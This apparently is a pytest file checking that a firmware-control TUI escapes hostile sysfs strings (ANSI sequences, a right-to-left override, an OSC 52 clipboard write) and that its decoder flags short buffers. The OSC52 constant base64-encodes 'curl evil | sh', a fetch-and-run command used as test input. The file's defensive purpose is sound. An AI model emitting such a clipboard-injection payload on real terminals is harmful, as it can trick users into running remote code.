"""Issue 11 points 4 and 6: sysfs strings reach no terminal raw; decode names every short
buffer and every counted list shorter than its count.

The capture side of point 4 is in test_hostile_captures.py (every tool, every corpus file).
"""

from __future__ import annotations

import io
import json
from contextlib import redirect_stderr, redirect_stdout

import pytest
from rich.console import Console

from fwctl_tui.__main__ import main
from fwctl_tui.cli.devices import info_table
from fwctl_tui.decoders import catalogue, encode_input, output_size
from fwctl_tui.decoders.mlx5.codec import encode_output
from fwctl_tui.discovery import scan
from fwctl_tui.kernelstate import KernelState
from fwctl_tui.screens.devices import entry_details, entry_row
from tools.hostile.check import RAW_CONTROL

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def hostile_host(fake_sysfs):
    """A host whose netdev name, driver name and firmware string carry escape sequences."""
    parent = fake_sysfs.pci_function("0000:3b:00.0", driver="mlx5\x1b[2J", net=["eth\x1b[31m0"],
                                     rdma=["mlx5_0"], fw_ver=f"28.39{OSC52}",
                                     board_id="MT_\u202e0838")
    fake_sysfs.fwctl("fwctl0", parent)
    return fake_sysfs


@pytest.fixture(autouse=True)
def _wide_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")


def test_devices_and_info_tables_escape_sysfs_strings(hostile_host) -> None:
    _, out, err = run("--root", str(hostile_host.root), "devices")
    assert RAW_CONTROL.search(out + err) is None
    assert "eth\\x1b[31m0" in out and "mlx5\\x1b[2J" in out, out
    _, out, err = run("--root", str(hostile_host.root), "info", "fwctl0")
    assert RAW_CONTROL.search(out + err) is None  # (the stand-in node cannot be opened)
    console = Console(width=400, record=True, file=io.StringIO())
    console.print(info_table(scan(hostile_host.root)[0],
                             KernelState("6.18.0", 0, True, "none", "host", 1)))
    table = console.export_text()
    assert RAW_CONTROL.search(table) is None and "28.39\\x1b]52;c;" in table
    _, out, _ = run("--root", str(hostile_host.root), "devices", "--json")
    assert json.loads(out)[0]["netdevs"] == ["eth\x1b[31m0"]  # JSON keeps the data exact


def test_device_screen_rows_and_details_escape_sysfs_strings(hostile_host) -> None:
    entry = scan(hostile_host.root)[0]
    shown = " ".join(text.plain for text in entry_row(entry)) + entry_details(entry).plain
    assert RAW_CONTROL.search(shown) is None
    assert "eth\\x1b[31m0" in shown and "\\u202e" in shown


def _layout_names() -> list[str]:
    return ([c.name for c in catalogue.commands()]
            + [f"ACCESS_REG:{r.name}" for r in catalogue.registers()])


def test_decode_reports_a_buffer_one_byte_short_for_every_layout() -> None:
    """Was silent for 154 of 255 reply and 132 of 225 request layouts (reserved tails)."""
    silent = []
    for name in _layout_names():
        cmd = catalogue.find(name)
        request = encode_input(cmd, {})
        reply = bytes(output_size(cmd, request))
        for argv in (("--in", request[:-1].hex()),
                     ("--in", request.hex(), "--out", reply[:-1].hex())):
            if len(bytes.fromhex(argv[-1])) < 16:
                continue
            code, _, err = run("decode", name, *argv, "--json")
            if code != 2 or "bytes but the layout needs" not in err:
                silent.append((name, argv[-2]))
    assert silent == []


def test_decode_reports_a_count_field_larger_than_the_list() -> None:
    cmd = catalogue.find("QUERY_RQT")
    request = encode_input(cmd, {})
    reply = encode_output(cmd, {"rqt_context.rqt_actual_size": 5}, in_=request)
    code, _, err = run("decode", "QUERY_RQT", "--in", request.hex(),
                       "--out", (reply + bytes(8)).hex())
    assert code == 2
    assert "has 2 element(s) in the buffer but its count field says 5" in err
    code, _, err = run("decode", "QUERY_RQT", "--in", request.hex(),
                       "--out", (reply + bytes(20)).hex())
    assert code == 0 and "count field" not in err
